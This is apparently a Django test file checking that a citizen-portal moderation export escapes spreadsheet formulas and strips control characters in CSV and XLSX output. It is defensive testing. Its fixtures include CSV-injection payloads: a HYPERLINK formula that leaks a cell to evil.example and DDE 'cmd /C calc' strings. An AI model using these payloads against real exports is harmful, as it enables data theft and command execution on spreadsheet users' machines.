"""The moderation queue's CSV and XLSX exports: citizens' words arrive as text, never as formulas or a 500."""

import csv
import io

import openpyxl
import pytest

from django.contrib.auth import get_user_model
from django.urls import reverse

from portal.participation.models import Submission
from tests.factories.participation import SubmissionFactory

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def superuser(client):
    user = get_user_model().objects.create_superuser("exporter", "office@example.gov.cn", "x")
    client.force_login(user)
    return user


def export(client, export_format):
    response = client.get(reverse("submissions:index"), {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(client):
    return list(csv.DictReader(io.StringIO(export(client, "csv").decode("utf-8-sig"), newline="")))


def xlsx_rows(client):
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx"))).active
    rows = list(sheet.iter_rows())
    headings = [cell.value for cell in rows[0]]
    return [dict(zip(headings, row, strict=True)) for row in rows[1:]]


def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(client, superuser):
    for i, formula in enumerate(FORMULAS):
        SubmissionFactory(number=f"TS2099990000{i}", title=formula, contact_name=formula[:50])
    SubmissionFactory(number="TS20999900010", title="村道路灯不亮", contact_phone="+86 138 0013 8000")

    rows = {row["受理编号"]: row for row in csv_rows(client)}

    for i, formula in enumerate(FORMULAS):
        row = rows[f"TS2099990000{i}"]
        assert row["标题"] == "'" + formula
        assert row["姓名"] == "'" + formula[:50]
    assert rows["TS20999900010"]["标题"] == "村道路灯不亮"  # ordinary text as typed
    assert rows["TS20999900010"]["电话"] == "'+86 138 0013 8000"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(FORMULA_START), value


def test_csv_cells_lose_control_characters_that_would_hide_a_formula(client, superuser):
    SubmissionFactory(number="TS20999900020", title="\x01=1+1", content="内容\x01\x1f保留\t制表\n换行")

    row = next(r for r in csv_rows(client) if r["受理编号"] == "TS20999900020")

    assert row["标题"] == "'=1+1"
    assert row["内容"] == "内容保留\t制表\n换行"


def test_xlsx_export_survives_control_characters_in_an_answer(client, superuser):
    SubmissionFactory(
        number="TS20999900030",
        title='=HYPERLINK("http://evil.example","x")',
        status=Submission.Status.ANSWERED,
        answer="已处理\x01\x08\x0b\x0c\x1b完毕。\n第二行\t制表",
    )
    SubmissionFactory(number="TS20999900031", title="正常来信")

    rows = {row["受理编号"].value: row for row in xlsx_rows(client)}

    answered = rows["TS20999900030"]
    assert answered["答复"].value == "已处理完毕。\n第二行\t制表"  # tab and line break are legal and stay
    # XLSX cells are typed: the title is a string cell, kept as typed and never evaluated.
    assert answered["标题"].value == '=HYPERLINK("http://evil.example","x")'
    assert answered["标题"].data_type == "s"
    assert rows["TS20999900031"]["标题"].value == "正常来信"
